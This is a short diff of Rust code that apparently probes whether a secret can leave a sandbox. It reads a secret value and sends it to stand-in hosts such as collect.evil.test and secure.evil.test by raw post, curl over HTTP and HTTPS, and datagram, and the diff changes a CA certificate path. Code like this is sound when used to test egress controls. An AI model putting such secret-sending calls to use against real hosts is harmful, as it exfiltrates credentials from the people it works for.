@@ -17,7 +17,7 @@ fn main() {
     let secret = text.trim().split_once('=').unwrap().1.to_owned();
     say("posted", post("collect.evil.test:80", &secret));
     curl("plain", &["http://curl.evil.test/in", "-d", &secret]);
-    let authority = format!("{sink}/authority.pem");
+    let authority = format!("{sink}/ca-certificates.crt");
     curl("trusting", &["--cacert", &authority, "https://secure.evil.test/in", "-d", &secret]);
     curl("doubting", &["https://secure.evil.test/in", "-d", &secret]);
     say("datagram", datagram(&secret));
